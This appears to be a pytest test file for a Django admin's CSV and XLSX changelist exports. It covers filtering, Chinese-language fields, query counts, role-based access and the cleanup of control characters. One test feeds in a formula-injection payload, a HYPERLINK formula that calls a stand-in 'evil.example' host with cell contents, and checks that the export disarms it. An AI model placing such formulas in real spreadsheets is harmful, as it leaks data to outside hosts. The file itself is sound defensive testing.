"""Every changelist of ours exports to CSV and XLSX: as filtered and searched, readable
(names, every language), Chinese intact, formulas disarmed, queries fixed, roles kept."""

import pytest
from django.contrib import admin
from django.db import connection
from django.test.utils import CaptureQueriesContext

from events.models import Conference, Organization, Person, Position
from tests import factories
from tests.spreadsheets import (
    CSV_FORMAT,
    XLSX_FORMAT,
    admin_url,
    export,
    read_csv,
    read_xlsx,
    signed_in,
)
from tests.test_admin_pages import FACTORIES

pytestmark = pytest.mark.django_db

OUR_MODELS = sorted(
    (model._meta.model_name, model)
    for model in admin.site._registry
    if model._meta.app_label in {"events", "partnerships"}
)
ROLES = ["anonymous", "staff", "Editor", "Publisher", "Administrator"]


@pytest.mark.parametrize(("model_name", "model"), OUR_MODELS)
def test_every_changelist_exports_with_queries_fixed_however_many_rows(
    admin_client, model_name, model
):
    there = model.objects.count()
    factory = FACTORIES[model_name]
    factory()
    export(admin_client, model)  # warm the session and content-type caches

    with CaptureQueriesContext(connection) as one_row:
        response = export(admin_client, model)
    assert response.status_code == 200
    assert len(read_csv(response.content)) == there + 1

    factory.create_batch(20)
    with CaptureQueriesContext(connection) as many_rows:
        response = export(admin_client, model, XLSX_FORMAT)
    assert len(read_xlsx(response.content)) == there + 21

    assert len(many_rows) == len(one_row), "\n".join(q["sql"] for q in many_rows)


def test_related_records_are_named_and_texts_come_in_every_language(admin_client):
    post = factories.PositionFactory(
        person__name_en="Chen Zhichang",
        organization__name_en="Nanjing Municipal People's Government",
        title_en="Mayor of Nanjing",
        title_zh_hans="南京市市长",
        title_zh_hant="南京市市長",
    )

    (row,) = read_csv(export(admin_client, Position).content)

    assert row["person"] == "Chen Zhichang"
    assert row["organization"] == "Nanjing Municipal People's Government"
    assert (row["title_en"], row["title_zh_hans"], row["title_zh_hant"]) == (
        "Mayor of Nanjing",
        "南京市市长",
        "南京市市長",
    )
    assert row["id"] == str(post.pk)
    assert "title" not in row  # the field's own column, which nothing keeps, is left out


def test_the_export_keeps_the_changelists_filters_and_search(admin_client):
    factories.OrganizationFactory(
        name_en="Nanjing Municipal People's Government", kind="government"
    )
    factories.OrganizationFactory(name_en="Nanjing Bank", kind="enterprise")
    factories.OrganizationFactory(name_en="Hong Kong Trade Development Council", kind="trade_body")

    filtered = read_csv(export(admin_client, Organization, query="kind__exact=government").content)
    searched = read_csv(export(admin_client, Organization, query="q=development").content)

    assert [row["name_en"] for row in filtered] == ["Nanjing Municipal People's Government"]
    assert [row["name_en"] for row in searched] == ["Hong Kong Trade Development Council"]


def test_the_export_page_links_with_the_changelists_query(admin_client):
    changelist = admin_client.get(admin_url(Organization, "changelist") + "?kind__exact=media")

    assert admin_url(Organization, "export") + "?kind__exact=media" in changelist.content.decode()


def test_chinese_survives_csv_with_a_bom_and_xlsx(admin_client, demo):
    csv_response = export(admin_client, Person)
    xlsx_response = export(admin_client, Person, XLSX_FORMAT)

    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response.content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    for rows in (read_csv(csv_response.content), read_xlsx(xlsx_response.content)):
        han = next(row for row in rows if row["name_en"] == "Han Liming")
        assert (han["name_zh_hans"], han["name_zh_hant"]) == ("韩立明", "韓立明")
        assert han["posts_zh_hant"] == "常委, 中共江蘇省委; 書記, 中共南京市委"


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_texts_a_spreadsheet_would_run_as_formulas_are_disarmed(admin_client, file_format):
    factories.OrganizationFactory(
        name_en='=HYPERLINK("http://evil.example/?"&A1,"Click")', short_name_en="+1", city_en="-5"
    )

    response = export(admin_client, Organization, file_format)

    rows = read_csv(response.content) if file_format == CSV_FORMAT else read_xlsx(response.content)
    assert rows[0]["name_en"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert rows[0]["short_name_en"] == "+1"  # a number is no formula
    assert rows[0]["city_en"] == "-5"


@pytest.mark.parametrize("role", ROLES)
def test_who_may_export(role):
    factories.OrganizationFactory(name_en="Nanjing Municipal People's Government")
    client = signed_in(role)

    page = client.get(admin_url(Organization, "export"))
    crafted = export(client, Organization)

    if role in {"Editor", "Publisher", "Administrator"}:
        assert page.status_code == 200
        assert read_csv(crafted.content)[0]["name_en"] == "Nanjing Municipal People's Government"
    elif role == "anonymous":
        assert page.status_code == crafted.status_code == 302
        assert "login" in crafted["Location"]
    else:
        assert page.status_code == crafted.status_code == 403


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize(("model_name", "model"), OUR_MODELS)
def test_every_export_and_import_url_keeps_the_roles(role, model_name, model):
    """Crafted requests to every admin's export and import URLs, by every role: the
    content roles export; an admin without an import refuses its import URLs to all."""
    FACTORIES[model_name]()
    client = signed_in(role)
    may_import = model_name in {"organization", "person", "agreement"}

    crafted = export(client, model)
    import_page = client.get(admin_url(model, "import"))
    confirm = client.post(
        admin_url(model, "process_import"),
        {"import_file_name": "0" * 32, "original_file_name": "x.csv", "format": "0"},
    )

    if role == "anonymous":
        for response in (crafted, import_page, confirm):
            assert response.status_code == 302 and "login" in response["Location"]
    elif role == "staff":
        assert (crafted.status_code, import_page.status_code, confirm.status_code) == (403,) * 3
    else:
        assert len(read_csv(crafted.content)) == model.objects.count()
        assert import_page.status_code == (200 if may_import else 403)
        assert confirm.status_code == (302 if may_import else 403)  # (an expired upload)


def test_people_with_posts_past_a_thousand_export(admin_client):
    """The posts' organizations come with the posts: read on their own, 1,100 of them in
    one IN list were too deep for SQLite (a 503 instead of the file)."""
    organizations = Organization.objects.bulk_create(
        Organization(name_en=f"Organization {n}", slug=f"organization-{n}") for n in range(1100)
    )
    people = Person.objects.bulk_create(
        Person(name_en=f"Person {n}", slug=f"person-{n}") for n in range(1100)
    )
    Position.objects.bulk_create(
        Position(person=person, organization=organization, title_en="Director")
        for person, organization in zip(people, organizations, strict=True)
    )

    rows = read_csv(export(admin_client, Person).content)

    assert len(rows) == 1100
    assert all(
        row["posts_en"] == f"Director, {row['name_en'].replace('Person', 'Organization')}"
        for row in rows
    )


@pytest.mark.parametrize("query", ["start_date__gte=x", "nosuchfield=1"])
def test_an_export_with_filters_the_list_cannot_read_goes_back_to_the_list(admin_client, query):
    response = export(admin_client, Conference, query=query)

    assert response.status_code == 302
    assert response["Location"] == admin_url(Conference, "changelist") + "?e=1"


def test_control_characters_pasted_from_word_are_left_out_of_an_xlsx(admin_client):
    factories.OrganizationFactory(name_en="Nanjing\x0b Bank\x01", city_en="Line\none")

    response = export(admin_client, Organization, XLSX_FORMAT)

    assert response.status_code == 200
    [row] = read_xlsx(response.content)
    assert (row["name_en"], row["city_en"]) == ("Nanjing Bank", "Line\none")
